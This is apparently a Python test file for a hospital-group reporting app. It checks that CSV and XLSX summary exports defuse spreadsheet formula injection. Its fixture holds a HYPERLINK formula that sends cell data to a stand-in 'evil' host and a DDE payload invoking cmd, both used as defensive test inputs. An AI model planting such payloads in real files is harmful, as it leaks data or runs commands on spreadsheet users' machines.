"""A GHT named like a formula stays text in every bilan download, on both databases: the
CSV cell starts with a quote and no XLSX cell is a formula (read back with openpyxl)."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlmodel import select

from models import Ght
from services.views.exports import bilan_csv, bilan_xlsx

OCTOBER_13 = date(2017, 10, 13)
FORMULA = '=HYPERLINK("http://evil/?x="&A2,"GHT Lot")'
NAMES = {"OCC-02": FORMULA, "OCC-03": "@SUM(1+1)*cmd|' /C calc'!A0", "OCC-04": "\t=1+1"}


def _rename(ws, names: dict[str, str]) -> None:
    """As a scenario or the national list would name them (the registry takes any text)."""
    with ws.db.transaction() as session:
        for code, name in names.items():
            ght = session.exec(select(Ght).where(Ght.code == code)).one()
            ght.name = name
            session.add(ght)


def test_csv_cells_that_would_be_formulas_start_with_a_quote(occitanie):
    _rename(occitanie, NAMES)
    text = bilan_csv(occitanie, OCTOBER_13)
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    names = {r[1]: r[2] for r in rows[1:]}
    assert {code: names[code] for code in NAMES} == {c: "'" + n for c, n in NAMES.items()}
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]


def test_no_xlsx_cell_is_a_formula_and_counts_stay_numbers(occitanie):
    _rename(occitanie, NAMES)
    book = load_workbook(io.BytesIO(bilan_xlsx(occitanie, OCTOBER_13)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t")]
    assert "'" + FORMULA in texts
    by_ght = {row[0].value: row[1].value for row in book["Par GHT"].iter_rows(min_row=4)}
    assert by_ght["OCC-02"] == "'" + FORMULA
    counts = [row[4] for row in book["Synthèse"].iter_rows(min_row=4)]
    assert counts and all(c.data_type == "n" and isinstance(c.value, int) for c in counts)
